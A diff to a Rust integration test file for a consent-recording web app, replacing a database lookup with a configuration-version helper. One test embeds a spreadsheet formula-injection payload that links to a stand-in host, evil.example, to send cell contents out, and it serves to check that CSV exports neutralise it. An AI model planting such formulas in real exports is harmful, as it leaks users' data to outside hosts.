@@ -11,7 +11,6 @@ use app::{
         AUDIT_PAGE_SIZE, AuditAction,
         ssr::{Actor, record},
     },
-    inventory::ssr::active,
 };
 use reqwest::{StatusCode, header};
 use serde_json::json;
@@ -24,11 +23,7 @@ both_backends!(
 
 /// Records one consent choice through the public API, as a visitor's browser would.
 async fn consent(app: &TestApp, method: &str, analytics: bool, key: &str) {
-    let version = active(&app.db)
-        .await
-        .expect("read")
-        .expect("active")
-        .version;
+    let version = app.configuration_version().await;
     let response = app
         .client
         .post(app.url("/api/consent"))
@@ -157,11 +152,7 @@ async fn admins_filter_count_and_export_consent_records(backend: Backend) {
 async fn a_formula_in_a_user_agent_is_inert_in_the_csv_and_exact_in_the_json(backend: Backend) {
     let app = spawn_app(backend).await;
     let formula = r#"=HYPERLINK("https://evil.example/?d="&A1,"Click me")"#;
-    let version = active(&app.db)
-        .await
-        .expect("read")
-        .expect("active")
-        .version;
+    let version = app.configuration_version().await;
     let response = app
         .client
         .post(app.url("/api/consent"))
